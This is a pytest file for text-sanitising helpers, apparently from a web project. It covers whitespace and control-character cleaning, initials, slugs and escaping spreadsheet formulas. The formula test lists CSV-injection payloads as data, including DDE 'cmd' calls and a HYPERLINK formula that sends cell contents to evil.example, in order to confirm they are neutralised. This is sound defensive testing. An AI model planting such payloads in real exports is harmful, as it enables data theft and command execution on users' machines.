import pytest
from hypothesis import given
from hypothesis import strategies as st

from base.text import as_cell, clean_line, clean_prose, initials, slug


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("  Ada \t Obi ", "Ada Obi"),
        ("a\x00b\u202ec\ud800", "abc"),
        ("two\nlines", "two lines"),
        ("e\u0301", "\u00e9"),
    ],
)
def test_a_line_keeps_only_what_can_be_seen(typed: str, kept: str) -> None:
    assert clean_line(typed) == kept


def test_prose_keeps_its_paragraphs() -> None:
    assert clean_prose(" one\r\n\r\ntwo ") == "one\n\ntwo"


@given(st.text())
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    assert clean_prose(clean_prose(text)) == clean_prose(text)
    assert clean_line(clean_line(text)) == clean_line(text)


@pytest.mark.parametrize(
    ("name", "letters"), [("Ada M. Obi", "AO"), ("Ada", "A"), ("", ""), ("ada obi", "AO")]
)
def test_initials_are_of_the_first_and_last_word(name: str, letters: str) -> None:
    assert initials(name) == letters


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?"&A1,"x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\uff1d1+1",
        "=IMPORTXML(CONCAT(A1:A9),0)",
        "=DDE(1;2;3)",
    ],
)
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    assert as_cell(text) == f"'{text}"
    assert as_cell(f"Tea {text}") == f"Tea {text}"


def test_a_slug_is_plain_words_and_hyphens() -> None:
    assert slug("Café St. Pancras & Friends") == "cafe-st-pancras-friends"
